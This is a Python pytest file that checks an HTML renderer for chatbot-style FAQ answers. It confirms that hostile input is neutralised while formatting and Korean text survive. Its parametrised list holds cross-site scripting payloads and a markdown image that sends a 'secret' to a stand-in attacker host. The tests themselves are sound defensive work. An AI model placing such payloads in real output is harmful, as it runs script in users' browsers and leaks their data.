"""Answers as HTML: what is meant survives, what is hostile does not."""

import re

import pytest

from connectors.web.markup import MOST_CHARACTERS, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[a]: javascript:alert(1)\n\n[a]",
    '<https://x.example/"onmouseover=alert(1)>',
    'https://x.example/"><img/src/onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<style>body{display:none}</style>",
    "<form action=//evil.example><input name=q></form>",
    "[x](https://a.example 'on\" onclick=\"alert(1)')",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_becomes_markup(text: str) -> None:
    html = to_html(text)
    tags = re.findall(r"<\s*([a-z0-9]+)([^>]*)>", html, re.IGNORECASE)
    allowed = {"p", "br", "a", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "strong", "em"}
    assert {name.lower() for name, _ in tags} <= allowed
    for _, attributes in tags:
        assert not re.search(r"(?<![\w/?&=-])on\w+\s*=", re.sub(r'"[^"]*"', '""', attributes))
        assert "javascript:" not in attributes.lower()
        assert "data:" not in attributes.lower()


def test_lists_emphasis_and_line_breaks_are_kept() -> None:
    html = to_html("**7일** 안에\n신청해 주세요.\n\n1. 먼저\n2. 다음")
    assert "<strong>7일</strong>" in html
    assert "<br>" in html
    assert html.count("<li>") == 2


def test_plain_faq_text_is_not_turned_into_something_else() -> None:
    assert "<h4" not in to_html("제목\n---\n내용")
    assert "<pre>" not in to_html("    네 칸 들여쓴 글")
    assert "1,000원~2,000원" in to_html("1,000원~2,000원")
    assert "snake_case_name" in to_html("snake_case_name")
    assert "&lt;주의&gt;" in to_html("<주의> 꼭 읽어 주세요")


def test_addresses_can_be_clicked_and_open_apart() -> None:
    html = to_html("자세한 내용은 https://faq.example/returns?a=1&b=2 에서, 문의는 help@faq.example 로 주세요.")
    assert 'href="https://faq.example/returns?a=1&amp;b=2"' in html
    assert 'href="mailto:help@faq.example"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_an_address_ends_before_korean_particles_and_full_stops() -> None:
    assert 'href="https://faq.example/a"' in to_html("https://faq.example/a에서 보세요.")
    assert 'href="https://faq.example/a"' in to_html("See https://faq.example/a.")
    assert 'href="https://faq.example/a"' in to_html("(https://faq.example/a)")


def test_headings_stay_below_the_pages_own() -> None:
    assert to_html("# 큰 제목").startswith("<h4>")


@pytest.mark.parametrize("text", ["", " ", "*" * 3000, "[" * 3000, "> " * 500 + "x", "`" * 2001, "<" * 3000])
def test_strange_text_is_rendered_in_time(text: str) -> None:
    to_html(text)


def test_huge_text_is_shown_as_it_is() -> None:
    html = to_html("<b>x</b>" * MOST_CHARACTERS)
    assert "<b>" not in html
